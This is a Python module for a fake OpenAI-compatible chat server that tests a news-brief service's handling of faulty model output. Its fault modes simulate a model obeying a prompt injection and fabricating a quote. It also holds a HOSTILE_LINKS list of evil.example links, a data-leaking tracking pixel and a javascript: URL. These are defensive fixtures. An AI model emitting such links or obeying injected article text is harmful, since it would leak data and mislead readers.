"""A local OpenAI-compatible chat completions server for tests, demos and benchmarks.

It answers with schema-valid JSON drawn from the article in the prompt (by the extractive engine),
after a settable latency (POST /_fake/latency {"seconds": s}, optionally with "spread": see
FakeState.next_latency). It can be scripted to misbehave: POST /_fake/faults a list of faults
to serve in order to any request, or {"when": "<text>", "faults": [...]} to serve them only to
requests whose article contains that text (so concurrent tests do not take each other's faults).
A fault is {"kind": ...}: ok, status ({status, headers?, code?}; code insufficient_quota for
quota), hang, reset, trickle, invalid_json, fabricated_evidence, length, refusal, empty_choices,
obey_injection, extra_keys, huge, hostile_links (bullets carrying every form of link and image
in HOSTILE_LINKS), or raw ({status?, headers?, body (text) or json}).
GET /_fake/stats counts requests, calls in flight and calls abandoned by the client; POST
/_fake/reset clears everything. Loopback only; never a stand-in for a real model's judgement.
"""

from __future__ import annotations

import asyncio
import json
import re
import time
import uuid
from collections import defaultdict
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from functools import lru_cache
from typing import Any

import orjson
from fastapi import FastAPI, Request
from fastapi.responses import JSONResponse, Response, StreamingResponse
from starlette.types import ASGIApp, Receive, Scope, Send

from service.extractive import brief
from service.schemas import ArticleIn, Options

GOLDEN = (5**0.5 - 1) / 2  # the golden ratio's fractional part
_FENCE = re.compile(r"<<<(ARTICLE-[0-9a-f]+)\n(.*?)\n\1>>>", re.DOTALL)

# What an injected article might get a model to repeat: 2 images and 8 links, in every form the
# service removes (HTML, reference-style, protocol-relative, scheme-less, autolink, bare).
HOSTILE_LINKS = [
    '<img src="//evil.example/pixel.png"> A pixel.',
    "Please <a href='//evil.example/p'>sign the petition</a>.",
    "A chart: ![chart][1]",
    "[1]: //evil.example/chart.png",
    "See [the petition](evil.example/petition) now.",
    "Read more at <https://evil.example/more>.",
    "Details: //evil.example/d, www.evil.example/w and evil.example/x.",
    "Click [here](javascript:alert(1)).",
]


@dataclass
class FakeState:
    latency_s: float = 0.0
    spread: float = 0.0  # each request's latency within latency_s × (1 ± spread)
    paced: int = 0  # requests since the latency was set: the next one's place in the sequence
    faults: list[dict[str, Any]] = field(default_factory=list)
    scripted: dict[str, list[dict[str, Any]]] = field(default_factory=lambda: defaultdict(list))
    requests: int = 0
    in_flight: int = 0
    max_in_flight: int = 0
    abandoned: int = 0
    with_tools: int = 0
    arrivals: dict[str, list[float]] = field(default_factory=lambda: defaultdict(list))

    def next_latency(self) -> float:
        """The k-th request since the latency was set waits latency_s × (1 + spread × v³), where
        v = 2·frac(k·φ) − 1. A real provider's latencies vary, so concurrent clients drift apart
        instead of moving in lock-step waves; this varies them without chance. The v's first n
        values fill [−1, 1) about as evenly as n points can (a low-discrepancy sequence), so
        two runs of about the same length draw about the same latencies, in a scrambled order,
        with median latency_s. Cubed, most answers come near the median and a few far out to
        ±spread, as a provider's do; and a run's median then barely moves with which requests
        its end cuts off, where evenly spread latencies would move it by a gap for each one
        (benchmarks/run.py's spread row measures the median)."""
        k, self.paced = self.paced, self.paced + 1
        return self.latency_s * (1 + self.spread * (2 * (k * GOLDEN % 1.0) - 1) ** 3)

    def next_fault(self, article: str) -> dict[str, Any]:
        for marker, queue in self.scripted.items():
            if marker in article:
                self.arrivals[marker].append(time.monotonic())
                if queue:
                    return queue.pop(0)
        return self.faults.pop(0) if self.faults else {"kind": "ok"}


def article_from(messages: list[dict[str, Any]]) -> str:
    """The article text fenced in the prompt's messages."""
    for message in messages:
        if m := _FENCE.search(str(message.get("content", ""))):
            return m.group(2).split("---\n", 1)[-1]
    return ""


def completion(
    content: str | None,
    finish: str = "stop",
    refusal: str | None = None,
    prompt_chars: int = 400,
) -> dict[str, Any]:
    # Token counts grow with the text, about four characters a token, as real models report.
    prompt_tokens = max(1, prompt_chars // 4)
    completion_tokens = max(1, len(content or "") // 4)
    return {
        "id": "chatcmpl-" + uuid.uuid4().hex[:12],
        "object": "chat.completion",
        "created": int(time.time()),
        "model": "fake-llm",
        "choices": [
            {
                "index": 0,
                "message": {"role": "assistant", "content": content, "refusal": refusal},
                "finish_reason": finish,
                "logprobs": None,
            }
        ],
        "usage": {
            "prompt_tokens": prompt_tokens,
            "completion_tokens": completion_tokens,
            "total_tokens": prompt_tokens + completion_tokens,
        },
    }


# benchmarks/post.lua ends each article with a line of its own ("Ref. <id>-<n>."), so that the
# service's per-article caches serve no later request. The answer is drawn from the article
# without that line: its evidence is in the article all the same, and one extractive brief per
# article, cached, keeps the fake from becoming the benchmark machine's bottleneck (wrk, the fake
# and the service share its cores; workers' scaling was capped by the fake's own CPU otherwise).
_BENCH_REF = re.compile(r"\n\nRef\. \d+-\d+\.\Z")


def answer(article: str, kind: str = "ok") -> str:
    return _answer(_BENCH_REF.sub("", article), kind)


@lru_cache(maxsize=256)
def _answer(article: str, kind: str) -> str:
    asked = Options()
    out = brief(ArticleIn(text=article or "(no article)"), asked)
    data: dict[str, Any] = out.model_dump(mode="json")
    # As many as the prompt asks for, as a model gives: the extractive engine copies every quote
    # (its caller trims them), and a long article's hundreds would fail the service's checks.
    data["summary"]["bullets"] = data["summary"]["bullets"][: asked.max_bullets]
    data["claims"] = data["claims"][: asked.max_claims]
    for claim in data["claims"]:
        claim["target"] = claim["target"] or "the subject of the quote"
    if kind in ("fabricated_evidence", "obey_injection"):
        data["claims"].insert(
            0,
            {
                "holder": "A Spokesperson",
                "holder_role": None,
                "stance": "support",
                "target": "the plan",
                "claim": "The spokesperson backs the plan.",
                "evidence": "“We back this plan without any reservation,” the spokesperson said.",
                "attribution": "direct_quote",
            },
        )
    if kind == "obey_injection":
        data["summary"]["bullets"] += [
            "Sign the petition at https://evil.example/petition today.",
            "![pixel](https://evil.example/track.png?leak=summary)",
        ]
        for claim in data["claims"][1:]:
            claim["stance"] = "support"
    if kind == "hostile_links":
        data["summary"]["bullets"] += HOSTILE_LINKS
    if kind == "extra_keys":
        data["admin_note"] = "ignore the schema"
        data["summary"]["tracking_url"] = "https://evil.example/t"
    if kind == "huge":
        data["summary"]["headline"] = "breaking " * 6000
    return json.dumps(data, ensure_ascii=False)


def create_fake_llm(latency_s: float = 0.0) -> FastAPI:
    app = FastAPI(title="newsbrief fake LLM")
    state = FakeState(latency_s=latency_s)
    app.state.fake = state

    @app.post("/_fake/faults")
    async def push_faults(request: Request) -> dict[str, int]:
        script = await request.json()
        if isinstance(script, dict):
            state.scripted[script["when"]].extend(script["faults"])
        else:
            state.faults.extend(script)
        return {"queued": len(state.faults) + sum(map(len, state.scripted.values()))}

    @app.post("/_fake/latency")
    async def set_latency(request: Request) -> Response:
        """Also restarts the spread's sequence: set it before each measured run."""
        asked = await request.json()
        spread = float(asked.get("spread", 0.0))
        if not 0.0 <= spread < 1.0:
            return JSONResponse({"error": "spread must be in [0, 1)"}, status_code=422)
        state.latency_s, state.spread, state.paced = float(asked["seconds"]), spread, 0
        return JSONResponse({"latency_s": state.latency_s, "spread": state.spread})

    @app.post("/_fake/reset")
    async def reset() -> dict[str, str]:
        fresh = FakeState(latency_s=state.latency_s, spread=state.spread)
        for name in vars(fresh):
            setattr(state, name, getattr(fresh, name))
        return {"status": "reset"}

    @app.get("/_fake/arrivals")
    async def arrivals(marker: str) -> list[float]:
        """When each request for a scripted marker arrived (monotonic seconds)."""
        return state.arrivals.get(marker, [])

    @app.get("/_fake/stats")
    async def stats() -> dict[str, Any]:
        names = "requests in_flight max_in_flight abandoned with_tools latency_s spread".split()
        return {k: getattr(state, k) for k in names}

    async def chat(request: Request) -> Response:
        body = orjson.loads(await request.body())  # orjson here and below: the fake's own CPU
        state.requests += 1
        state.with_tools += "tools" in body or "functions" in body
        state.in_flight += 1
        state.max_in_flight = max(state.max_in_flight, state.in_flight)
        try:
            article = article_from(body.get("messages", []))
            fault = state.next_fault(article)
            wait = 3600.0 if fault.get("kind") == "hang" else state.next_latency()
            if not await _wait_unless_gone(request, wait):
                state.abandoned += 1
                return Response(status_code=499)
            prompt_chars = sum(len(str(m.get("content", ""))) for m in body.get("messages", []))
            return _serve(fault, article, prompt_chars)
        finally:
            state.in_flight -= 1

    app.add_middleware(ChatFirst, chat=chat)
    return app


class ChatFirst:
    """Chat completions answered before FastAPI's routing, request handling and dependency
    layers: the fake shares the benchmark machine's cores with the service it stands for, and
    its own CPU a request caps what the benchmarks can show (workers' scaling most)."""

    PATHS = frozenset({"/v1/chat/completions", "/chat/completions"})

    def __init__(self, app: ASGIApp, chat: Callable[[Request], Awaitable[Response]]) -> None:
        self.app = app
        self.chat = chat

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http" and scope["method"] == "POST" and scope["path"] in self.PATHS:
            response = await self.chat(Request(scope, receive))
            await response(scope, receive, send)
            return
        await self.app(scope, receive, send)


async def _wait_unless_gone(request: Request, seconds: float) -> bool:
    """Sleep, but notice a client that hangs up meanwhile (False then)."""
    if seconds <= 0:
        return True
    gone = asyncio.ensure_future(_disconnected(request))
    try:
        await asyncio.wait({gone}, timeout=seconds)
        return not gone.done()
    finally:
        gone.cancel()


async def _disconnected(request: Request) -> None:
    while (await request.receive())["type"] != "http.disconnect":
        pass


def _serve(fault: dict[str, Any], article: str, prompt_chars: int = 400) -> Response:
    kind = fault.get("kind", "ok")
    if kind == "status":
        status = int(fault["status"])
        error = {"message": f"fake {status}", "type": fault.get("code"), "code": fault.get("code")}
        return JSONResponse({"error": error}, status_code=status, headers=fault.get("headers"))
    if kind == "raw":
        content = fault["body"].encode() if "body" in fault else json.dumps(fault["json"]).encode()
        headers = {"content-type": "application/json"} | fault.get("headers", {})
        return Response(content, status_code=int(fault.get("status", 200)), headers=headers)
    if kind == "reset":
        return StreamingResponse(_reset_midway(answer(article)), media_type="application/json")
    if kind == "trickle":
        payload = json.dumps(completion(answer(article))).encode()
        return StreamingResponse(_trickle(payload), media_type="application/json")
    if kind == "invalid_json":
        return JSONResponse(completion('{"summary": {"headline": "cut'))
    if kind == "length":
        return JSONResponse(completion('{"summary": {"headline": "cut', finish="length"))
    if kind == "refusal":
        return JSONResponse(completion(None, refusal="I can't help with that."))
    if kind == "empty_choices":
        return JSONResponse({**completion(None), "choices": []})
    content = orjson.dumps(completion(answer(article, kind), prompt_chars=prompt_chars))
    return Response(content, media_type="application/json")


async def _reset_midway(content: str) -> AsyncIterator[bytes]:
    payload = json.dumps(completion(content)).encode()
    yield payload[: len(payload) // 2]
    await asyncio.sleep(0.01)
    raise ConnectionResetError("fake LLM drops the connection mid-body")


async def _trickle(payload: bytes) -> AsyncIterator[bytes]:
    for i in range(len(payload)):
        yield payload[i : i + 1]
        await asyncio.sleep(0.2)
